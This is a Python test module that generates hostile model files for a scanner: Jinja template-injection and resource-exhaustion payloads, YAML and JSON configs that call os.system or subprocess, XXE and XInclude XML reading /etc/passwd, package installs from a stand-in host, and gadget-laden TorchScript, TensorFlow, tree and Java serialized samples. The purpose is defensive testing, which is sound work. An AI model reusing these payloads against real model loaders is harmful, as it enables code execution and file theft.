"""Third hostile set, written before the code had run on it: settings, templates, graphs, trees and scripts that come with models."""

from __future__ import annotations

import json
import struct

from tests.attacks.models.corpus import malicious
from tests.attacks.models.hostile_containers import zipped
from tests.attacks.models.hostile_data import gguf, gtext, pb

CHAT = "{% for message in messages %}{{ message['content'] }}{% endfor %}"

TEMPLATES = {
    "keyword_name": "{% set k = dict(__class__=1)|first %}{{ ''[k] }}", "reversed_name": "{% set k = '__ssalc__'|reverse %}{{ ''[k] }}", "percent_name": "{% set k = '__cl%sass__' % '' %}{{ ''[k] }}", "json_name": "{% set k = '\"__cl\\\\u0061ss__\"'|from_json %}{{ ''[k] }}", "namespace_name": "{% set n = namespace(__class__=1) %}{{ n.__class__ }}", "macro_argument": "{% macro m(__init__) %}{% endmacro %}{{ ''[m.arguments[0]] }}",
    "macro_name": "{% macro __class__() %}{% endmacro %}{% set k = __class__.name %}{{ ''[k] }}", "nested_pick": "{% set k = ['a', '__class__'] %}{{ ''[k[1]] }}", "loop_pick": "{% for k in ['__class__'] %}{{ ''[k] }}{% endfor %}", "title_name": "{% set k = '__CLASS__'|lower %}{{ ''[k] }}", "tojson_name": "{% set k = {'__class__': 1}|tojson %}{{ ''[k[2:11]] }}", "keys_name": "{% set k = dict(__class__=1).keys()|list %}{{ ''[k[0]] }}",
    "items_name": "{% for k, v in dict(__globals__=1).items() %}{{ raise_exception[k] }}{% endfor %}", "dictsort_name": "{% for k, v in dict(__globals__=1)|dictsort %}{{ raise_exception[k] }}{% endfor %}", "attribute_list": "{{ messages|map(attribute='content.__class__')|list }}", "frame": "{{ messages|map('upper')|attr('gi_frame') }}", "frame_attribute": "{{ [messages|select]|map(attribute='gi_frame')|list }}", "import_other": "{% import '/etc/passwd' as x %}{{ x }}", "format_method": "{{ '{0.__class__}'.format(1) }}",
    "range_by_name": "{% set n = 999999999999 %}{% for i in range(n) %}a{% endfor %}", "times_by_name": "{% set n = 9999999999 %}{{ 'a' * n }}", "width_of_percent": "{{ '%9999999999d' % 1 }}", "fill_by_name": "{% set n = 9999999999 %}{{ 'a'.zfill(n) }}", "indent_by_name": "{% set n = 9999999999 %}{{ 'a\\nb'|indent(n) }}", "doubled": "{% set ns = namespace(x='a') %}{% for i in range(64) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}{{ ns.x }}",
}  # fmt: skip
for number, (name, template) in enumerate(TEMPLATES.items()):
    if number % 3 == 0:
        malicious(f"third/{name}/chat_template.jinja", template.encode())
    elif number % 3 == 1:
        malicious(f"third/{name}/tokenizer_config.json", json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode())
    else:
        malicious(f"third/{name}.gguf", gguf([("general.architecture", 8, gtext("llama")), ("tokenizer.chat_template.tool_use", 8, gtext(template))]))

YAML = {
    "secondary/hparams.yaml": "%TAG !! tag:yaml.org,2002:python/\n---\nx: !!object/apply:os.system [touch canary]\n", "numbered/hparams.yaml": "%TAG !1! tag:yaml.org,2002:python/object/\n---\nx: !1!apply:os.system [touch canary]\n", "dash/hparams.yml": "%TAG !-! tag:yaml.org,2002:python/object/\n---\nx: !-!apply:os.system [touch canary]\n", "no_suffix/args": "lr: 0.1\nx: !!python/object/apply:os.system [touch canary]\n", "conf/hparams.conf": "lr: 0.1\nx: !!python/object/new:os.system [touch canary]\n",
    "cls/model_config.yaml": "model:\n  cls: os.system\n  params: {command: touch canary}\n", "through_torch/config.yaml": "model:\n  _target_: torch.nn.parallel.distributed.os.system\n  command: touch canary\n", "through_functional/config.yaml": "model:\n  _target_: torch.nn.functional.importlib.import_module\n  name: canary\n", "through_optim/config.yaml": "optim:\n  _target_: torch.optim.optimizer.functools.reduce\n", "through_target/config.yaml": "model:\n  target: torch.hub.os.system\n  params: {command: touch canary}\n", "through_ldm/v1.yaml": "model:\n  target: ldm.util.importlib.import_module\n  params: {name: canary}\n",
    "through_numpy/config.yaml": "model:\n  target: numpy.f2py.os.system\n", "through_callbacks/config.yaml": "callbacks:\n  - _target_: lightning.pytorch.callbacks.model_checkpoint.shutil.rmtree\n    path: canary\n", "class_path/config.yaml": "model:\n  class_path: torch.utils.model_zoo.os.system\n  init_args: {command: touch canary}\n", "path_in_key/config.yaml": "? !!python/object/apply:os.system [touch canary]\n: 1\n", "in_flow/config.yaml": "x: [1,!!python/object/apply:os.system [touch canary]]\n", "merged/config.yaml": "base: &base\n  _target_: subprocess.call\n  args: [touch, canary]\nmodel:\n  <<: *base\n",
    "block_code/config.yaml": "model:\n  _target_: builtins.exec\n  _args_:\n    - |\n      open('canary', 'w')\n", "eval_resolver/config.yaml": "model:\n  x: ${eval:\"__import__('os').system('touch canary')\"}\n", "partial/config.yaml": "model:\n  _target_: functools.partial\n  _args_: ['${oc.env:HOME}']\n", "MLmodel_loader/MLmodel": "mlflow_version: 3.0\nflavors:\n  python_function:\n    loader_module: canary_code\n    code: code\n", "MLmodel_script/MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.loaders.code_model\n    model_code_path: agent.py\n",
    "MLmodel_artifact/MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: ../../canary.pkl\n", "plain_index/conda.yaml": "dependencies:\n- python=3.11\n- pip\n- pip:\n  - --index-url http://198.51.100.7/simple\n  - canary\n", "plain_wheel/python_env.yaml": "python: 3.11.7\nbuild_dependencies: [pip]\ndependencies:\n- canary @ http://198.51.100.7/canary-1.whl\n",
}  # fmt: skip
for name, data in YAML.items():
    malicious(f"third/yaml_{name}", data.encode())

SETTINGS = {
    "MLmodel_json/MLmodel": {"flavors": {"python_function": {"loader_module": "canary_code"}}}, "pipeline_part/model_index.json": {"_class_name": "StableDiffusionPipeline", "movq": ["canary_code", "Canary"]}, "pipeline_third/model_index.json": {"_class_name": "X", "text_encoder_3": ["os", "system"]}, "pipeline_prior/model_index.json": {"_class_name": "X", "prior_prior": ["subprocess", "Popen"]},
    "jsonpickle/model.json": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["touch canary"]}]}, "jsonpickle_object/state.json": {"weights": [1], "hook": {"py/object": "subprocess.Popen", "py/newargs": {"py/tuple": ["true"]}}}, "network/plans.json": {"configurations": {"3d": {"architecture": {"network_class_name": "os.system", "arch_kwargs": {"conv_op": "subprocess.Popen"}, "_kw_requires_import": ["conv_op"]}}}}, "server/model-settings.json": {"name": "m", "implementation": "os.system"},
    "spark/metadata.json": {"class": "os.system", "timestamp": 1, "sparkVersion": "3.5", "uid": "x", "paramMap": {}}, "sentence/modules.json": [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.util.os.system"}], "hydra/config.json": {"model": {"_target_": "torch.nn.modules.module.functools.partial"}}, "tfjs/model.json": {"format": "layers-model", "modelTopology": {}, "weightsManifest": [{"paths": ["../../../etc/passwd"], "weights": []}]}, "tfjs_url/model.json": {"format": "graph-model", "modelTopology": {"node": []}, "weightsManifest": [{"paths": ["http://198.51.100.7/w.bin"], "weights": []}]},
    "auto_map_inside/config.json": {"model_type": "llava", "text_config": {"auto_map": {"AutoModel": "canary_code.Canary"}}}, "remote_repository/config.json": {"model_type": "x", "auto_map": {"AutoConfig": "somebody/else--canary_code.Canary"}}, "attention/config.json": {"model_type": "llama", "_attn_implementation": "somebody/canary:attention"}, "tokenizer_slow/tokenizer_config.json": {"tokenizer_class": "Canary", "auto_map": {"AutoTokenizer": ["canary_code.Canary", None]}}, "list_template/tokenizer_config.json": {"chat_template": [{"name": "default", "template": CHAT}, {"name": "tool", "template": "{{ ''.__class__ }}"}]},
    "keras_os/config.json": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}, "keras_typespec/config.json": {"module": "keras", "class_name": "Functional", "config": {"x": {"class_name": "__typespec__", "spec_name": "system", "module": "os", "config": ["touch canary"], "registered_name": None}}}, "keras_get_file/config.json": {"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}]}}, "keras_loss/config.json": {"module": "keras", "class_name": "Sequential", "config": {"layers": []}, "compile_config": {"loss": {"module": "subprocess", "class_name": "function", "config": "call", "registered_name": "call"}}},
    "keras_idf/config.json": {"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "TextVectorization", "config": {"vocabulary": "/etc/passwd"}, "registered_name": None}]}}, "keras_saved/config.json": {"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "canary"}, "registered_name": None}]}}, "keras_package/config.json": {"module": None, "class_name": "Canary", "config": {}, "registered_name": "canary_code>Canary"},
    "regex/tokenizer.json": {"version": "1.0", "model": {"type": "BPE", "vocab": {}, "merges": []}, "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "^(([a-z])+.)+[A-Z]([a-z])+$"}}}, "regex_normalizer/tokenizer.json": {"version": "1.0", "model": {"type": "BPE", "vocab": {}, "merges": []}, "normalizer": {"type": "Replace", "pattern": {"Regex": "(?:a|b|ab)*c"}, "content": ""}}, "regex_back/tokenizer.json": {"version": "1.0", "model": {"type": "BPE", "vocab": {}, "merges": []}, "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "((a*)*)*b"}}},
    "index_hidden/model.safetensors.index.json": {"metadata": {}, "weight_map": {"a": "..%2f..%2fcanary", "b": "\u2025/x"}}, "shards_json/model.weights.json": {"metadata": {}, "weight_map": {"/layers/dense/vars": "../../canary.weights.h5"}}, "skops_method/schema.json": {"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode", "content": {"func": "system", "obj": {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": "\"x\""}}, "protocol": 2, "_skops_version": "0.16"}, "skops_operator/schema.json": {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {}, "protocol": 2, "_skops_version": "0.16"},
    "skops_function/schema.json": {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "protocol": 2, "_skops_version": "0.16"}, "zarr/.zarray": {"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "filters": [{"id": "pickle", "protocol": 5}], "compressor": None, "order": "C", "fill_value": 0},
}  # fmt: skip
for name, value in SETTINGS.items():
    malicious(f"third/json_{name}", json.dumps(value).encode())

XML = {
    "utf16_silent.xml": "<!DOCTYPE net [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><net name='&x;' version='11'><layers/></net>".encode("utf-16-le"), "other_prefix.pmml": b'<PMML version="4.4" xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/passwd"/></PMML>', "mark_in_value.xml": b'<net name="m" version="11"><layers><layer id="0" name="a>b" type="Canary" version="canary_ops"/></layers></net>', "mark_in_apply.pmml": b'<PMML version="4.4"><TransformationDictionary><Apply mapMissingTo="a>b" function="java.lang.Runtime.exec"/></TransformationDictionary></PMML>',
    "entity_function.pmml": b'<PMML version="4.4"><Apply function="java&#x2e;lang&#x2e;Runtime"/></PMML>', "namespaced.xml": b'<o:net xmlns:o="x" name="m" version="11"><o:layers><o:layer id="0" name="a" type="Canary" version="canary_ops"/></o:layers></o:net>', "parent.xml": b'<net name="m" version="11"><layers><layer id="0" type="Const" version="opset1"><data path="..\\..\\canary.bin" offset="0" size="4"/></layer></layers></net>',
}  # fmt: skip
for name, data in XML.items():
    malicious(f"third/{name}", data)


# ---- scripts of torch: code that only names methods of values

def script(body: str, argument: str = "x: Tensor") -> bytes:
    """A TorchScript archive with one module whose `forward` is `body`."""
    code = f"class Canary(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n  _is_full_backward_hook : Optional[bool]\n  def forward(self: __torch__.Canary,\n    {argument}) -> Tensor:\n" + "".join(f"    {line}\n" for line in body.split("\n"))
    made = b"\x80\x02c__torch__\nCanary\nq\0)\x81}(X\x08\0\0\0trainingq\1\x89X\x16\0\0\0_is_full_backward_hookq\2Nubq\3."
    return zipped({"m/data.pkl": made, "m/code/__torch__.py": code.encode(), "m/constants.pkl": b"\x80\x02).", "m/version": b"3\n", "m/byteorder": b"little"})


SCRIPTS = {
    "method_save": '_0 = x.save("canary")\nreturn x', "text_from_file": 'return "canary".from_file(True, 16)', "operator_from_file": 'return torch.from_file("canary", True, 16)', "ops_save": 'ops.aten.save(x, "canary")\nreturn x', "quoted_operator": 'return getattr(torch, "from_file")("canary", True, 16)', "class_loader": 'a = __torch__.torch.classes._nnapi.Compilation.__new__(__torch__.torch.classes._nnapi.Compilation)\nreturn x', "image": 'return ops.image.read_file("canary")', "nested_class": 'return ops.canary.run("touch canary")',
}  # fmt: skip
for name, body in SCRIPTS.items():
    malicious(f"third/script_{name}.pt", script(body))


# ---- graphs of TensorFlow: places that are put together

def node(operator: str, name: str, inputs: tuple[str, ...] = (), **attributes: bytes) -> bytes:
    parts = pb(1, name) + pb(2, operator) + b"".join(pb(3, one) for one in inputs)
    return pb(1, parts + b"".join(pb(5, pb(1, key) + pb(2, value)) for key, value in attributes.items()))


def const(name: str, value: str) -> bytes:
    return node("Const", name, (), dtype=pb(6, 7), value=pb(8, pb(1, 7) + pb(2, b"") + pb(8, value)))


def saved(graph: bytes) -> bytes:
    return pb(1, 1) + pb(2, pb(2, graph))


def function(name: str, *nodes: bytes) -> bytes:
    """A function of one text argument `place`."""
    return pb(2, pb(1, pb(1, pb(1, name) + pb(2, pb(1, "place") + pb(3, 7))) + b"".join(b"\x1a" + one[1:] for one in nodes)))


SAVE = node("SaveV2", "save", ("place", "names", "slices", "value"))
GRAPHS = {
    "joined_place": const("a", "") + const("b", "tmp") + const("c", "canary") + node("StringJoin", "place", ("a", "b", "c"), separator=pb(2, "/")) + SAVE, "replaced_place": const("a", "x") + node("StaticRegexReplace", "place", ("a",), pattern=pb(2, "x"), rewrite=pb(2, "/tmp/canary")) + SAVE, "formatted_place": const("a", "x") + node("StringFormat", "place", ("a",), template=pb(2, "/tmp/%s"), placeholder=pb(2, "%s")) + SAVE,
    "handed_place": const("a", "/tmp/canary") + node("StatefulPartitionedCall", "call", ("a",), f=pb(10, pb(1, "save_it"))) + function("save_it", SAVE), "handed_merge": const("a", "/tmp/canary") + node("PartitionedCall", "call", ("a",), f=pb(10, pb(1, "merge_it"))) + function("merge_it", node("MergeV2Checkpoints", "merge", ("place", "place"), delete_old_dirs=pb(5, 1))), }  # fmt: skip
for name, graph in GRAPHS.items():
    malicious(f"third/{name}/saved_model.pb", saved(graph))
malicious("third/frozen_joined.pb", GRAPHS["joined_place"])


# ---- trees whose numbers name what is not there

def lightgbm(**changes: str) -> bytes:
    tree = {"num_leaves": "2", "num_cat": "0", "split_feature": "0", "split_gain": "1", "threshold": "0.5", "decision_type": "2", "left_child": "-1", "right_child": "-2", "leaf_value": "0.1 0.2", "leaf_weight": "1 1", "leaf_count": "1 1", "internal_value": "0", "internal_weight": "0", "internal_count": "2", "is_linear": "0", "shrinkage": "1", **changes}
    head = "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\nfeature_names=a\nfeature_infos=[0:1]\ntree_sizes=400\n\n"
    return (head + "Tree=0\n" + "\n".join(f"{key}={value}" for key, value in tree.items()) + "\n\n\nend of trees\n").encode()


malicious("third/category_beyond.txt", lightgbm(num_cat="1", decision_type="1", threshold="100000000", cat_boundaries="0 1", cat_threshold="1"))
malicious("third/category_words.lgb", lightgbm(num_cat="1", decision_type="1", threshold="0", cat_boundaries="0 100000000", cat_threshold="1"))
malicious("third/linear_beyond.txt", lightgbm(is_linear="1", leaf_const="0 0", num_features="1 1", leaf_features="100000000 100000000", leaf_coeff="1 1"))


def xgboost(more: dict[str, object] | None = None, **changes: object) -> bytes:
    tree = {"base_weights": [0.0, 0.1, 0.2], "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [], "default_left": [0, 0, 0], "id": 0, "left_children": [1, -1, -1], "loss_changes": [1.0, 0.0, 0.0], "parents": [2147483647, 0, 0], "right_children": [2, -1, -1], "split_conditions": [0.5, 0.1, 0.2], "split_indices": [0, 0, 0], "split_type": [0, 0, 0], "sum_hessian": [2.0, 1.0, 1.0], "tree_param": {"num_deleted": "0", "num_feature": "1", "num_nodes": "3", "size_leaf_vector": "1"}, **changes}
    model = {"gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"}, "iteration_indptr": [0, 1], "tree_info": [0], "trees": [tree], **(more or {})}
    return json.dumps({"version": [3, 2, 0], "learner": {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": {"model": model, "name": "gbtree"}, "learner_model_param": {"base_score": "[5E-1]", "boost_from_average": "1", "num_class": "0", "num_feature": "1", "num_target": "1"}, "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}}}}).encode()


malicious("third/category_segment.json", xgboost(split_type=[1, 0, 0], categories=[1], categories_nodes=[0], categories_segments=[100000000], categories_sizes=[10]))
malicious("third/category_node.json", xgboost(split_type=[1, 0, 0], categories=[1], categories_nodes=[1000000], categories_segments=[0], categories_sizes=[1]))
malicious("third/tree_of_group.json", xgboost({"tree_info": [100000000]}))
malicious("third/tree_of_iteration.json", xgboost({"iteration_indptr": [0, 100000]}))


# ---- the rest

def export(model: object) -> bytes:
    return zipped({"m/archive_format": b"pt2", "m/archive_version": b"0", "m/models/model.json": json.dumps(model).encode(), "m/data/weights/model_weights_config.json": b'{"config":{}}', "m/version": b"1", "m/byteorder": b"little"})


REST = {
    "power_tower.pt2": export({"graph_module": {"graph": {"sym_int_values": {"s0": {"as_expr": {"expr_str": "9**9**9**9"}}}}}}), "power_calls.pt2": export({"sym": {"as_expr": {"expr_str": "Pow(9, Pow(9, Pow(9, 9)))"}}}), "dunder_operator.pt2": export({"graph": {"nodes": [{"target": "torch.ops.aten.__getattribute__", "inputs": []}]}}), "inductor.pt2": zipped({"m/archive_format": b"pt2", "m/data/aotinductor/model/canary.so": b"\x7fELF", "m/models/model.json": b"{}"}), "alignment_text.gguf": gguf([("general.alignment", 8, gtext("64"))], [("w", [8], 0, 0)], b"\0" * 128), "alignment_float.gguf": gguf([("general.alignment", 6, struct.pack("<f", 2.0))], [("w", [8], 0, 0)], b"\0" * 32), "template_in_array.gguf": gguf([("tokenizer.chat_templates", 9, struct.pack("<IQ", 8, 1) + gtext("{{ ''.__class__ }}"))]),
    "runtime.ort": struct.pack("<I", 28) + b"ORTM" + b"\0" * 64, "engine.plan": b"ftrt" + b"\0" * 64 + b"canary_plugin.so", "java_object.ser": b"\xac\xed\0\5sr\0\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\3\0\2I\0\4size", "java_model.bin": b"\xac\xed\0\5sr\0\x2eorg.apache.commons.collections.functors.Invoker" + b"\0" * 16, "code_in_header.py": b"from transformers import PreTrainedModel\nimport os\n\n\nclass Canary(PreTrainedModel):\n    os.system('touch canary')\n", "handler/handler.py": b"import torch\nimport os\n\nos.system('touch canary')\n\n\ndef handle(data, context):\n    return data\n", "custom/configuration_canary.py": b"open('canary', 'w')\n",
}  # fmt: skip
for name, data in REST.items():
    malicious(f"third/{name}", data)
